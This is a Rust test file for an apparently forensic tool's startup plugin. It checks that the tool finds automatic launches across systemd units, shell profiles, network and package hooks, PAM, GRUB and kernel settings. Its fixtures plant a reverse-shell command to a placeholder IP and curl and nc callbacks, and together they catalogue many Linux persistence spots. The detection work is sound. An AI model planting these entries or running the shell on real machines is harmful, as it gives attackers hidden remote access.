//! Every way of starting a program by itself becomes a launch, with its file and line.

use coroner_core::{Items, Launch, Report, Trigger};
use coroner_plugin_startup as _;
use coroner_testkit::{Fixture, Tree, audit};

const SHELL: &str = "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'";

fn launches(report: Report) -> Vec<Launch> {
    Items::new(report.items).all::<Launch>().collect()
}

/// File, line, trigger and part of the command.
type Wanted = (&'static str, u32, Trigger, &'static str);

fn assert_found(found: &[Launch], wanted: &[Wanted]) {
    for (file, line, trigger, command) in wanted {
        let fits = |launch: &&Launch| {
            launch.file.as_str() == Some(file)
                && launch.line == *line
                && launch.trigger == *trigger
                && launch.command.lossy().contains(command)
                && launch.enabled
        };
        let of_file: Vec<_> = found.iter().filter(|one| one.file.as_str() == Some(file)).collect();
        assert!(found.iter().any(|one| fits(&one)), "{file}:{line} {command}\nfound: {of_file:#?}");
    }
}

#[test]
fn what_units_of_all_kinds_run_is_found_in_the_line_that_says_so() {
    let unit = format!("[Unit]\nDescription=x\n[Service]\nExecStart=-@/usr/bin/{SHELL}\n");
    let tree = Tree::new()
        .file("/etc/passwd", "ann:x:1:1::/home/ann:/bin/bash\nbob:x:2:2::/home/bob:/bin/bash\n")
        .file("/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service", &unit)
        .file(
            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer",
            "[Timer]\nOnCalendar=*:*\n",
        )
        .file("/home/ann/.config/systemd/user/a.service", &unit)
        .file("/home/bob/.config/systemd/user/b.service", &unit)
        .file("/var/lib/systemd/linger/bob", "")
        .file("/run/systemd/transient/run-r1.service", &unit)
        .file("/usr/lib/systemd/system/vpn.service", "[Service]\nExecStart=/usr/sbin/vpn\n")
        .file("/etc/systemd/system/vpn.service.d/x.conf", "[Service]\nExecStartPost=+/tmp/x\n")
        .file("/etc/systemd/system/echo.socket", "[Socket]\nListenStream=9001\nAccept=yes\n")
        .file("/etc/systemd/system/echo@.service", "[Service]\nExecStart=/bin/sh -i\n")
        .file("/etc/systemd/system/getty@tty1.service.d/a.conf", "[Service]\nExecStartPre=/tmp/y\n")
        .file("/usr/lib/systemd/system/getty@.service", "[Service]\nExecStart=/sbin/agetty\n");
    let wanted: &[Wanted] = &[
        (
            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service",
            4,
            Trigger::Time,
            "/dev/tcp/192.0.2.1",
        ),
        ("/home/ann/.config/systemd/user/a.service", 4, Trigger::Login, "/dev/tcp"),
        ("/home/bob/.config/systemd/user/b.service", 4, Trigger::Boot, "/dev/tcp"),
        ("/run/systemd/transient/run-r1.service", 4, Trigger::Boot, "/dev/tcp"),
        ("/usr/lib/systemd/system/vpn.service", 2, Trigger::Boot, "/usr/sbin/vpn"),
        ("/etc/systemd/system/vpn.service.d/x.conf", 2, Trigger::Boot, "/tmp/x"),
        ("/etc/systemd/system/echo@.service", 2, Trigger::Activation, "/bin/sh -i"),
        ("/etc/systemd/system/getty@tty1.service.d/a.conf", 2, Trigger::Boot, "/tmp/y"),
    ];
    assert_found(&launches(audit(&["startup"], &tree)), wanted);
}

#[test]
fn a_reset_a_mask_and_a_disabled_unit_start_nothing() {
    let tree = Tree::new()
        .file("/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/old\n")
        .file(
            "/etc/systemd/system/a.service.d/x.conf",
            "[Service]\nExecStart=\nExecStart=/usr/bin/new\n",
        )
        .file("/usr/lib/systemd/system/b.service", "[Service]\nExecStart=/usr/bin/masked\n")
        .link("/etc/systemd/system/b.service", "/dev/null")
        .file(
            "/usr/lib/systemd/system/c.service",
            "[Service]\nExecStart=/usr/bin/off\n[Install]\nWantedBy=x.target\n",
        )
        .file(
            "/usr/lib/systemd/system/d.service",
            "[Service]\nExecStart=/usr/bin/on\n[Install]\nWantedBy=x.target\n",
        )
        .link("/etc/systemd/system/x.target.wants/d.service", "/usr/lib/systemd/system/d.service");
    let found = launches(audit(&["startup"], &tree));
    let of = |command: &str| found.iter().find(|one| one.command == command);
    assert!(of("/usr/bin/old").is_none() && of("/usr/bin/masked").is_none());
    assert_eq!(of("/usr/bin/new").map(|one| one.line), Some(3));
    assert_eq!(of("/usr/bin/off").map(|one| one.enabled), Some(false));
    assert_eq!(of("/usr/bin/on").map(|one| one.enabled), Some(true));
}

#[test]
fn scripts_that_the_distribution_runs_are_found_as_whole_files() {
    let script = format!("#!/bin/sh\nnohup setsid {SHELL} &\n");
    let files = [
        ("/etc/update-motd.d/137-python-upgrades", Trigger::Login),
        ("/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh", Trigger::Network),
        ("/etc/NetworkManager/dispatcher.d/pre-up.d/x", Trigger::Network),
        ("/etc/network/if-up.d/x", Trigger::Network),
        ("/etc/dhcp/dhclient-exit-hooks.d/x", Trigger::Network),
        ("/etc/ppp/ip-up.d/x", Trigger::Network),
        ("/etc/networkd-dispatcher/routable.d/x", Trigger::Network),
        ("/etc/rc.local", Trigger::Boot),
        ("/etc/rc.d/rc.local", Trigger::Boot),
        ("/usr/lib/systemd/system-generators/makecon", Trigger::Boot),
        ("/etc/systemd/user-environment-generators/x", Trigger::Boot),
        ("/usr/lib/systemd/system-shutdown/x", Trigger::Boot),
        ("/usr/lib/systemd/system-sleep/x", Trigger::Boot),
        ("/usr/lib/dracut/modules.d/99panix/module-setup.sh", Trigger::Boot),
        ("/etc/initramfs-tools/scripts/init-bottom/x", Trigger::Boot),
        ("/etc/initramfs-tools/hooks/x", Trigger::PackageRun),
        ("/etc/kernel/postinst.d/x", Trigger::PackageRun),
        ("/usr/lib/yum-plugins/yumcon.py", Trigger::PackageRun),
        ("/usr/lib/python3.9/site-packages/dnf-plugins/dnfcon.py", Trigger::PackageRun),
        ("/srv/site/.git/hooks/pre-commit", Trigger::Program),
        ("/etc/profile", Trigger::Login),
        ("/etc/profile.d/x.sh", Trigger::Login),
        ("/root/.bash_profile", Trigger::Login),
        ("/root/.zshenv", Trigger::Login),
        ("/root/.config/fish/config.fish", Trigger::Login),
        ("/etc/X11/Xsession.d/99x", Trigger::Login),
        ("/usr/lib/python3.11/sitecustomize.py", Trigger::Program),
    ];
    let tree = files
        .iter()
        .fold(Tree::new(), |tree, (path, _)| tree.file(path, &script).mode(path, 0o755));
    let found = launches(audit(&["startup"], &tree));
    let wanted: Vec<Wanted> =
        files.iter().map(|(path, trigger)| (*path, 0, *trigger, "")).collect();
    assert_found(&found, &wanted);
    let itself = |one: &&Launch| one.programs.contains(&one.file);
    assert!(found.iter().all(|one| itself(&one)), "a script's own file is its program");
}

#[test]
fn commands_inside_configuration_are_found_in_their_lines() {
    let tree = Tree::new()
        .file(
            "/etc/apt/apt.conf.d/01python-upgrades",
            "APT::Update::Pre-Invoke {\"(nohup x &)\";};\n",
        )
        .file("/etc/dpkg/dpkg.cfg.d/x", "# x\npost-invoke=/tmp/x\n")
        .file("/etc/udev/rules.d/10-x.rules", "KERNEL==\"sda\", RUN+=\"/bin/sedexp\"\n")
        .file("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/etc/xdg/pkc12-register %u\n")
        .file(
            "/etc/dbus-1/system-services/x.service",
            "[D-BUS Service]\nName=x\nExec=/tmp/x\nUser=root\n",
        )
        .file("/etc/pam.d/sshd", "session optional pam_exec.so seteuid /bin/pam_exec_backdoor.sh\n")
        .file("/root/.gitconfig", "[core]\n\tpager = nohup sh -c 'x' & less\n")
        .file("/srv/site/.git/config", "[core]\n\tfsmonitor = /tmp/x\n")
        .file(
            "/root/.bashrc",
            "alias l=ls\ntrap 'curl 192.0.2.1' EXIT\nPROMPT_COMMAND='nc 192.0.2.1 1'\n",
        )
        .file("/etc/inittab", "x:2345:respawn:/tmp/getty\n")
        .file("/etc/network/interfaces", "iface eth0 inet dhcp\n  post-up /tmp/x\n")
        .file("/etc/logrotate.d/x", "/var/log/x {\n postrotate\n /tmp/x\n endscript\n}\n")
        .file("/etc/environment", "BASH_ENV=/var/tmp/.e\n")
        .file("/boot/grub/grub.cfg", "linux /vmlinuz \"systemd.run=/bin/sh /x\"\n")
        .file("/etc/default/grub", "GRUB_CMDLINE_LINUX=\"init=/grub-panix.sh\"\n")
        .file("/usr/lib/binfmt.d/x.conf", ":x:M::ab::/tmp/i:\n")
        .file("/etc/sysctl.d/x.conf", "kernel.core_pattern=|/tmp/c\n");
    let wanted: &[Wanted] = &[
        ("/etc/apt/apt.conf.d/01python-upgrades", 1, Trigger::PackageRun, "(nohup x &)"),
        ("/etc/dpkg/dpkg.cfg.d/x", 2, Trigger::PackageRun, "/tmp/x"),
        ("/etc/udev/rules.d/10-x.rules", 1, Trigger::Device, "/bin/sedexp"),
        ("/etc/xdg/autostart/x.desktop", 2, Trigger::Login, "/etc/xdg/pkc12-register"),
        ("/etc/dbus-1/system-services/x.service", 3, Trigger::Activation, "/tmp/x"),
        ("/etc/pam.d/sshd", 1, Trigger::Authentication, "/bin/pam_exec_backdoor.sh"),
        ("/root/.gitconfig", 2, Trigger::Program, "nohup sh"),
        ("/srv/site/.git/config", 2, Trigger::Program, "/tmp/x"),
        ("/root/.bashrc", 2, Trigger::Login, "curl 192.0.2.1"),
        ("/root/.bashrc", 3, Trigger::Login, "nc 192.0.2.1 1"),
        ("/etc/inittab", 1, Trigger::Boot, "/tmp/getty"),
        ("/etc/network/interfaces", 2, Trigger::Network, "/tmp/x"),
        ("/etc/logrotate.d/x", 2, Trigger::Time, "/tmp/x"),
        ("/etc/environment", 1, Trigger::Program, "/var/tmp/.e"),
        ("/boot/grub/grub.cfg", 1, Trigger::Boot, "/bin/sh /x"),
        ("/etc/default/grub", 1, Trigger::Boot, "/grub-panix.sh"),
        ("/usr/lib/binfmt.d/x.conf", 1, Trigger::Kernel, "/tmp/i"),
        ("/etc/sysctl.d/x.conf", 1, Trigger::Kernel, "/tmp/c"),
    ];
    assert_found(&launches(audit(&["startup"], &tree)), wanted);
}

#[test]
fn live_values_of_the_kernel_are_found() {
    let tree = Tree::new()
        .file("/proc/cmdline", "root=/dev/sda1 init=/x.sh\n")
        .file("/proc/sys/kernel/core_pattern", "|/x/core %p\n")
        .file("/proc/sys/kernel/modprobe", "/tmp/modprobe\n");
    let wanted: &[Wanted] = &[
        ("/proc/cmdline", 1, Trigger::Boot, "/x.sh"),
        ("/proc/sys/kernel/core_pattern", 1, Trigger::Kernel, "/x/core %p"),
        ("/proc/sys/kernel/modprobe", 1, Trigger::Kernel, "/tmp/modprobe"),
    ];
    let live = Fixture { tree, live: true, ..Fixture::default() };
    assert_found(&launches(live.audit(&["startup"])), wanted);
}
